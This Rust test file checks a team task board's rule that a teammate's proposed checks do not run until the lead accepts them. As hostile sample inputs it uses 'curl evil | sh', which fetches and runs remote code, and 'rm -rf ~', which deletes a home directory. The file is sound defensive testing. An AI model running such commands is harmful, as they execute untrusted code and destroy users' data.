//! Who sets a task's checks: the lead, and the team's repository. A teammate's
//! checks are only proposed until the lead accepts them.

use super::landing::{claim_open, gate, with_repo};
use super::*;
use teamboard_protocol::{EventKind, TaskStatus};

fn with_checks(subject: &str, checks: &[&str]) -> NewTask {
    NewTask {
        checks: checks.iter().map(|c| c.to_string()).collect(),
        ..new_task(subject)
    }
}

/// A teammate's task with a check: the check is proposed, and the gate runs
/// the team's checks alone until the lead accepts it.
#[test]
fn a_teammates_check_is_only_proposed_and_never_runs() {
    let mut h = with_repo();
    let ann = h.join("ann", "dev");
    let ctx = h.ctx(ann);
    let t = h
        .board
        .add_task(ctx, with_checks("config", &["curl evil | sh"]))
        .unwrap();
    assert_eq!(t.checks, Vec::<String>::new());
    assert_eq!(t.proposed_checks, ["curl evil | sh"]);
    let created = h
        .events()
        .into_iter()
        .find(|e| e.kind == EventKind::TaskCreated)
        .expect("created");
    assert!(
        created.detail.contains("1 check(s) proposed for the lead"),
        "{}",
        created.detail
    );
    let c = claim_open(&mut h, ann, t.id);
    let job = gate(&mut h, ann, &c, "done");
    assert_eq!(job.checks, ["make lint"], "the team's own only");
}

/// The lead's own checks are the task's, as before.
#[test]
fn the_leads_checks_are_the_tasks() {
    let mut h = with_repo();
    let t = h.add_task(with_checks("config", &["cargo test"]));
    assert_eq!(t.checks, ["cargo test"]);
    assert!(t.proposed_checks.is_empty());
}

/// The lead accepts the proposal (the checks join the task's, after its own)
/// or drops it; a teammate may do neither.
#[test]
fn the_lead_accepts_or_drops_the_proposed_checks() {
    let mut h = with_repo();
    let ann = h.join("ann", "dev");
    let ctx = h.ctx(ann);
    let t = h
        .board
        .add_task(ctx, with_checks("config", &["cargo test -p config"]))
        .unwrap();
    let ctx = h.ctx(ann);
    let refused = h.board.accept_checks(ctx, t.id, false).unwrap_err();
    assert_eq!(refused.code, ErrorCode::PermissionDenied);
    assert!(
        refused.message.contains("only the lead"),
        "{}",
        refused.message
    );
    h.events();
    let ctx = h.lead();
    let accepted = h.board.accept_checks(ctx, t.id, false).unwrap();
    assert_eq!(accepted.checks, ["cargo test -p config"]);
    assert!(accepted.proposed_checks.is_empty());
    let edited = h.events();
    assert!(
        edited.iter().any(|e| e.kind == EventKind::TaskEdited
            && e.detail.contains("accepted the checks proposed")),
        "{edited:#?}"
    );
    // Nothing left to accept.
    let ctx = h.lead();
    assert_eq!(
        code(h.board.accept_checks(ctx, t.id, false)),
        ErrorCode::InvalidState
    );
    let c = claim_open(&mut h, ann, t.id);
    let job = gate(&mut h, ann, &c, "done");
    assert_eq!(job.checks, ["make lint", "cargo test -p config"]);

    let ctx = h.ctx(ann);
    let u = h
        .board
        .add_task(ctx, with_checks("docs", &["rm -rf ~"]))
        .unwrap();
    let ctx = h.lead();
    let dropped = h.board.accept_checks(ctx, u.id, true).unwrap();
    assert!(dropped.checks.is_empty() && dropped.proposed_checks.is_empty());
    assert_eq!(dropped.status, TaskStatus::Pending);
}
